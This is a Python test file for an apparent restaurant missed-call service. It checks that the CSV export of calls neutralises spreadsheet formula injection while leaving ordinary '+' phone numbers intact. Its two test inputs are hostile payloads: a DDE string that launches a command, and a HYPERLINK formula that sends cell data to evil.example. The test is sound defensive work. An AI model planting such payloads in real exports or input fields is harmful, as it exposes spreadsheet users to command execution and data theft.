"""calls.csv neutralizes formula cells, a leading ``+`` included (SPEC §8; issue 13 item 4)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
import respx

from ringback.tenancy.model import TokenKind
from tests.conftest import MakeRestaurant, random_mobile

pytestmark = pytest.mark.sql

CALLER = "+cmd|' /C calc'!A0"
EXTERNAL_ID = '+HYPERLINK("http://evil.example/?x="&A1,"c")'


async def test_calls_csv_quotes_plus_formulas_and_keeps_plus_numbers(
    client: httpx.AsyncClient, make_restaurant: MakeRestaurant, graph: respx.MockRouter
) -> None:
    tenant = await make_restaurant()
    partner = tenant.auth(TokenKind.PARTNER)
    hostile = await client.post(
        "/api/partner/v1/missed-calls",
        json={"caller_phone_number": CALLER, "external_call_id": EXTERNAL_ID},
        headers=partner,
    )
    assert hostile.status_code == 201, hostile.text
    number = random_mobile()
    plain = await client.post(
        "/api/partner/v1/missed-calls", json={"caller_phone_number": number}, headers=partner
    )
    assert plain.status_code == 201, plain.text

    reply = await client.get("/api/ops/v1/calls.csv", headers=tenant.auth(TokenKind.OPS))

    assert reply.status_code == 200
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(reply.text))}
    written = rows[hostile.json()["data"]["id"]]
    assert written["caller_phone_number"] == "'" + CALLER
    assert written["external_id"] == "'" + EXTERNAL_ID
    assert rows[plain.json()["data"]["id"]]["caller_phone_number"] == number
